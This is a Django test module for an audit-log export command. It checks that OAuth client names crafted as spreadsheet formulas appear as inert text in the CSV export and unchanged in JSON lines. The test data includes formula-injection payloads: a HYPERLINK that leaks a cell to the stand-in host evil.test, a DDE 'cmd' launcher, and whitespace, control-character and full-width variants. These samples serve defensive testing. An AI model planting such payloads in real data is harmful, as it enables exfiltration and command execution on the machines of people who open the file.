"""A client's name chosen to run as a spreadsheet formula reaches the CSV export as text, and JSON lines unchanged.

The attack (issue 30, item 5): anyone registers a client named as a formula;
once a person connects it, every audit row of that client carries the name,
and the admin who opens the CSV export in a spreadsheet runs it.
"""

import csv
import io
import json
from datetime import UTC, datetime

from django.core.management import call_command
from django.utils import timezone

from audit.models import OUTCOME_OK, AuditAction, AuditEvent
from tests.factories import make_membership, make_organization
from tests.oauth.support import OAuthTestCase

FORMULA = '=HYPERLINK("http://evil.test/?x="&B2,"Open report")'
# Registration refuses control and invisible characters, so these reach the trail only
# through a row written with them (an older row, another writer).
REGISTRABLE_NAMES = (FORMULA, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)")
CONTROL_NAMES = ("\t=1+2", "\r=1+2")


class FormulaInAClientNameTests(OAuthTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.member = make_membership(organization=make_organization(slug="acme"))
        self.today = timezone.now().date().isoformat()

    def export(self, file_format: str) -> str:
        out = io.StringIO()
        call_command(
            "export_audit",
            "--organization",
            "acme",
            "--from",
            self.today,
            "--to",
            self.today,
            "--format",
            file_format,
            stdout=out,
        )
        return out.getvalue()

    def connect_clients_named(self, *names: str) -> None:
        self.sign_in(self.member.user)
        for name in names:
            client_id = self.register(client_name=name)["client_id"]
            self.authorize(client_id)

    def test_a_registered_formula_name_reaches_the_csv_as_text(self) -> None:
        self.connect_clients_named(*REGISTRABLE_NAMES)

        rows = list(csv.DictReader(io.StringIO(self.export("csv"))))

        self.assertEqual([row["action"] for row in rows], [AuditAction.AUTHORIZATION] * len(REGISTRABLE_NAMES))
        self.assertEqual([row["client_name"] for row in rows], ["'" + name for name in REGISTRABLE_NAMES])

    def test_json_lines_keep_the_name_as_registered(self) -> None:
        self.connect_clients_named(FORMULA)

        rows = [json.loads(line) for line in self.export("jsonl").splitlines()]

        self.assertEqual([row["client_name"] for row in rows], [FORMULA])

    def test_a_leading_tab_or_carriage_return_is_neutralised_too(self) -> None:
        AuditEvent.objects.bulk_create(
            [
                AuditEvent(
                    occurred_at=datetime.now(UTC),
                    action=AuditAction.TOOL_CALL,
                    outcome=OUTCOME_OK,
                    person_id=self.member.user_id,
                    organization_id=self.member.organization_id,
                    client_id=f"client-{index}",
                    client_name=name,
                    tool=name,
                )
                for index, name in enumerate(CONTROL_NAMES)
            ]
        )

        rows = list(csv.DictReader(io.StringIO(self.export("csv"), newline="")))

        self.assertEqual([row["tool"] for row in rows], ["'" + name for name in CONTROL_NAMES])
        # A client's name is display-safe first: the control character shows as U+FFFD, no formula left.
        self.assertEqual([row["client_name"] for row in rows], ["\ufffd=1+2", "\ufffd=1+2"])

    def test_a_formula_behind_white_space_or_in_full_width_is_neutralised(self) -> None:
        # An import that trims cells drops the spaces; NFKC reads the full-width sign as "=".
        hidden = (" =1+1", "\u00a0=1+1", "\u3000=1+1", "\uff1d1+1", "\uff0bSUM(1)")
        self.connect_clients_named(*hidden)

        rows = list(csv.DictReader(io.StringIO(self.export("csv"))))

        self.assertEqual([row["client_name"] for row in rows], ["'" + name for name in hidden])

    def test_a_value_that_starts_otherwise_is_written_unchanged(self) -> None:
        self.connect_clients_named("Claude Desktop (=beta)")

        rows = list(csv.DictReader(io.StringIO(self.export("csv"))))

        self.assertEqual([row["client_name"] for row in rows], ["Claude Desktop (=beta)"])
        self.assertTrue(rows[0]["detail"].startswith("{"))
